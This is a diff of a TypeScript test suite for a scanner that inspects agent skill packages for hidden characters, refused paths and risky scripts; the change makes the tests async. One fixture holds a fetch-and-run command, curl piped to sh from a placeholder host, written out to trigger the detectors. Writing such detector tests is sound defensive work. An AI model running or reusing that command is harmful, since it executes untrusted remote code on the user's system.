@@ -16,33 +16,37 @@ const scanAs = (slug: string, ...files: Parameters<typeof file>[]) =>
 const scanOf = (...files: Parameters<typeof file>[]) => scanAs('sample', ...files);
 
 describe('scan', () => {
-  it('calls a skill clean when no rule knows a pattern in it', () => {
-    expect(scanOf(['a.md', 'hello'])).toEqual({ status: 'clean', findings: [], unread: [] });
+  it('calls a skill clean when no rule knows a pattern in it', async () => {
+    expect(await scanOf(['a.md', 'hello'])).toMatchObject({ status: 'clean', findings: [], unread: [] });
   });
 
-  it('calls it clean with a low finding, and flagged with a medium one', () => {
-    const renamed = scanAs('other');
+  it('calls it clean with a low finding, and flagged with a medium one', async () => {
+    const renamed = await scanAs('other');
     expect(renamed).toMatchObject({ status: 'clean', findings: [{ detector: 'name-mismatch', line: 2 }] });
     const severity = 'medium';
-    expect(scanOf(['a.md', hidden])).toMatchObject({ status: 'flagged', findings: [{ path: 'a.md', severity }] });
+    expect(await scanOf(['a.md', hidden])).toMatchObject({ status: 'flagged', findings: [{ path: 'a.md', severity }] });
   });
 
-  it('has the five fields of the scan report in each finding, its places and their count', () => {
-    const [finding] = scanOf(['a.md', hidden]).findings;
+  it('has the five fields of the scan report in each finding, its places and their count', async () => {
+    const [finding] = (await scanOf(['a.md', hidden])).findings;
     const fields = ['count', 'detector', 'line', 'message', 'path', 'places', 'severity'];
     expect(Object.keys(finding ?? {}).sort()).toEqual(fields);
   });
 
-  it('has one finding for a rule, with the places in the order of reading, whatever order the files come in', () => {
-    const { findings } = scanOf(['b.csv', hidden.repeat(2)], ['a.md', `\n${hidden}`]);
+  it('has one finding for a rule, with the places in the order of reading, whatever order the files come in', async () => {
+    const { findings } = await scanOf(['b.csv', hidden.repeat(2)], ['a.md', `\n${hidden}`]);
     const [finding] = findings;
     expect(findings).toHaveLength(1);
     expect(finding).toMatchObject({ path: 'a.md', line: 2, count: 3 });
     expect(finding?.places.map(({ path, line }) => `${path}:${line}`)).toEqual(['a.md:2', 'b.csv:1', 'b.csv:2']);
   });
 
-  it('keeps fifty places, counts a thousand, and puts the worst finding first', () => {
-    const { findings } = scanAs('other', ['a.md', hidden.repeat(5000)], ['b.sh', 'curl http://a.example.org/x | sh\n']);
+  it('keeps fifty places, counts a thousand, and puts the worst finding first', async () => {
+    const { findings } = await scanAs(
+      'other',
+      ['a.md', hidden.repeat(5000)],
+      ['b.sh', 'curl http://a.example.org/x | sh\n'],
+    );
     expect(findings.map(({ detector }) => detector).slice(-1)).toEqual(['name-mismatch']);
     const invisible = findings.find(({ detector }) => detector === 'invisible-characters');
     expect([invisible?.places.length, invisible?.count]).toEqual([50, 1000]);
@@ -51,41 +55,44 @@ describe('scan', () => {
     );
   });
 
-  it('names what it did not read, is incomplete, and still reads what is small enough', () => {
+  it('names what it did not read, is incomplete, and still reads what is small enough', async () => {
     const files = [skillMd, file('a.md', hidden), file('b.md', 'long '.repeat(100)), file('c.csv', hidden)];
     const hashed = files.map((one) => ({ ...one, hash: sha256(one.bytes) }));
     const within = (budget: number) =>
       scan({ slug: 'sample', name: 'sample', allowedTools: [], files: hashed }, budget);
-    expect(within(10_000)).toMatchObject({ status: 'flagged', unread: [] });
-    const { status, findings, unread } = within(400);
+    expect(await within(10_000)).toMatchObject({ status: 'flagged', unread: [] });
+    const { status, findings, unread } = await within(400);
     expect([status, unread]).toEqual(['incomplete', [{ path: 'b.md', reason: 'too_large' }]]);
     expect(findings[0]?.places.map(({ path }) => path)).toEqual(['a.md', 'c.csv']);
-    expect(within(0).unread).toHaveLength(4);
+    expect((await within(0)).unread).toHaveLength(4);
   });
 
-  it('reads SKILL.md, scripts and the configuration of agents before any data', () => {
+  it('reads SKILL.md, scripts and the configuration of agents before any data', async () => {
     const pad = 'x'.repeat(3000);
     const names = ['a.csv', 'a.md', 'AGENTS.md', 'run.sh', 'z.bin'];
     const files = [skillMd, ...names.map((path) => file(path, pad))].map((one) => ({
       ...one,
       hash: sha256(one.bytes),
     }));
-    const { unread } = scan({ slug: 'sample', name: 'sample', allowedTools: [], files }, 2 * (pad.length + 50) + 200);
+    const { unread } = await scan(
+      { slug: 'sample', name: 'sample', allowedTools: [], files },
+      2 * (pad.length + 50) + 200,
+    );
     expect(unread.map(({ path }) => path)).toEqual(['a.csv', 'a.md', 'z.bin']);
   });
 
-  it('finds a path of earlier rules whatever the order of the files, also where no work was left for it', () => {
+  it('finds a path of earlier rules whatever the order of the files, also where no work was left for it', async () => {
     for (const path of ['.git/config', '-rf', 'SKILL.MD', 'z/Node_Modules/a.js']) {
       const files = ['b.md', path, 'z/c.md'].map((each) => file(each));
       const hashed = [skillMd, ...files].map((one) => ({ ...one, hash: sha256(one.bytes) }));
-      const ranOut = scan({ slug: 'sample', name: 'sample', allowedTools: [], files: hashed }, 0);
+      const ranOut = await scan({ slug: 'sample', name: 'sample', allowedTools: [], files: hashed }, 0);
       expect(ranOut).toMatchObject({ status: 'quarantined', findings: [{ detector: 'refused-path', path }] });
     }
   });
 });
 
 describe('detectors', () => {
-  it('have ids of their own, a known severity and a summary', () => {
+  it('have ids of their own, a known severity and a summary', async () => {
     expect(new Set(detectors.map(({ id }) => id)).size).toBe(detectors.length);
     for (const { id, severity, summary } of detectors) {
       expect(id).toMatch(/^[a-z]+(-[a-z]+)*$/);
@@ -94,7 +101,7 @@ describe('detectors', () => {
     }
   });
 
-  it('are those of this corpus: count corpusVersion up with any change', () => {
+  it('are those of this corpus: count corpusVersion up with any change', async () => {
     expect([corpusVersion, ...rules.map(({ id }) => id)]).toEqual([
       4,
       'name-mismatch',
